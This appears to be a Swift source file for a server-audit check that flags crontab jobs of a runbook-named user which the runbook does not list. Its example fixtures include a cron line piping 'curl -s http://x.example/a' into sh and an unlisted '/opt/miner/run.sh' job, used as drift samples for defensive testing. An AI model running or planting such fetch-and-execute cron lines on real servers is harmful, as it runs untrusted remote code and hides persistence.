import Findings
public import RunbookModel
public import ServerFacts

/// What runs from the crontab of a user whom the runbook names is in the runbook.
public struct JobListed: Check {
  public static let card = CheckCard(
    id: "job-listed",
    summary: "every job in a named user's crontab stands in the runbook",
    why: "A job that nobody knows of is lost when the server is set up again.",
    fix: "Add the job to the runbook, or take it out of the crontab.", severity: .warning,
    after: ["job-scheduled"])

  public init() {}

  public func judge(_ runbook: Runbook, by facts: Facts) async -> [Verdict] {
    let owned = runbook.schedules.filter { $0.user != nil }
    var verdicts: [Verdict] = []
    let crontabs = Crontabs(facts)
    var done: Set<String> = []
    let text = Mentioned(runbook)
    for schedule in owned {
      guard let user = schedule.user, done.insert(user).inserted else { continue }
      let claim = Address("cron", user)
      let range = schedule.claims.first { $0.address.field == "user" }?.value.range ?? schedule.words.range
      switch await crontabs.lines(of: user) {
      case .unseen(let blindness): verdicts.append(unknown(claim, at: range, blindness))
      case .seen(nil): continue
      case .seen(let found?):
        let strange = found.lines.filter { !$0.job.isCommentedOut && !text.names($0) }
        if strange.isEmpty { verdicts.append(holds(claim, at: range)) }
        verdicts += strange.map { tell($0, claim, user, range) }
      }
    }
    return verdicts
  }

  private func tell(_ line: JobLine, _ claim: Address, _ user: String, _ range: SourceRange) -> Verdict {
    let command = WorldText.clean(line.job.command)
    return drifts(
      claim, at: range, "the runbook lists the jobs of \(user); the crontab runs one more: \(command)",
      evidence: [JobScheduled.evidence(line)],
      remedy: .advice("add it to the runbook, or take it out with crontab -e"))
  }

  /// The words of all commands of schedules, of what stands under a heading on jobs, and of what is said of a time. A
  /// path that stands elsewhere says what a person runs.
  private struct Mentioned {
    private var names: Set<Substring> = []
    private var commands: Set<String> = []

    init(_ runbook: Runbook) {
      for schedule in runbook.schedules { commands.insert(JobLines.normal(schedule.command.value)) }
      for schedule in runbook.schedules { add(schedule.command.value) }
      for passage in runbook.passages.all {
        let titles = runbook.passages.sections[passage.section].titles
        if titles.contains(where: Self.speaksOfJobs) || Self.speaksOfJobs(passage.words) {
          add(passage.words)
        }
      }
      for command in runbook.commands {
        commands.insert(JobLines.normal(command.line.template))
        if command.titles.contains(where: Self.speaksOfJobs) { add(command.line.template) }
      }
    }

    private static let words = PhraseSet([
      "cron", "schedul", "timer", "nightly", "hourly", "daily", "weekly", "monthly", "every ", "each night",
      "each day", "each hour", "jobs", "periodic", "at night",
    ])

    /// A file's own name, `nightly.sh`, says nothing of a time.
    private static func speaksOfJobs(_ text: String) -> Bool {
      words.isIn(
        text.split(separator: " ").filter { !$0.contains(".") && !$0.contains("/") }.joined(separator: " "))
    }

    private mutating func add(_ text: String) {
      for word in text.split(whereSeparator: { !Self.isNamePart($0) }) { names.insert(word) }
    }

    private static func isNamePart(_ character: Character) -> Bool {
      character.isLetter || character.isNumber || "._-+".contains(character)
    }

    /// Named is a line whose command stands there, or the file of one of whose paths does. A program alone says
    /// little: `curl` may well stand in another command.
    func names(_ line: JobLine) -> Bool {
      if commands.contains(JobLines.normal(line.job.command)) { return true }
      let system = ["/bin/", "/usr/bin/", "/usr/sbin/", "/sbin/"]
      let own = line.paths.filter { path in !system.contains { path.hasPrefix($0) } }
      return (own.isEmpty ? line.paths : own).contains { path in
        guard let file = path.split(separator: "/").last, file.utf8.count > 2 else { return false }
        return names.contains(file) || names.contains(file + ".")
      }
    }
  }

  private static let text = "## Cron (deploy user)\n- 03:00 nightly: /home/deploy/nightly.sh"

  public static let examples = [
    CheckExample(.holds, text, .crontab("#0 1 * * * /opt/old.sh\n" + ExampleServer.oneJob)),
    CheckExample(
      .drifts, "         ↓\n## Cron (deploy user)\n- 03:00 nightly: /home/deploy/nightly.sh",
      .crontab(ExampleServer.oneJob + "*/5 * * * * /opt/miner/run.sh\n")),
    CheckExample(
      .drifts,
      "         ↓\n## Cron (deploy user)\n- 03:00 nightly: /home/deploy/nightly.sh\n- Look: curl http://a/",
      .crontab(ExampleServer.oneJob + "* * * * * curl -s http://x.example/a | sh\n")),
    CheckExample(.unknown, text, .with { $0.refused = [.text(path: ExampleServer.deploysCrontab)] }),
  ]
}
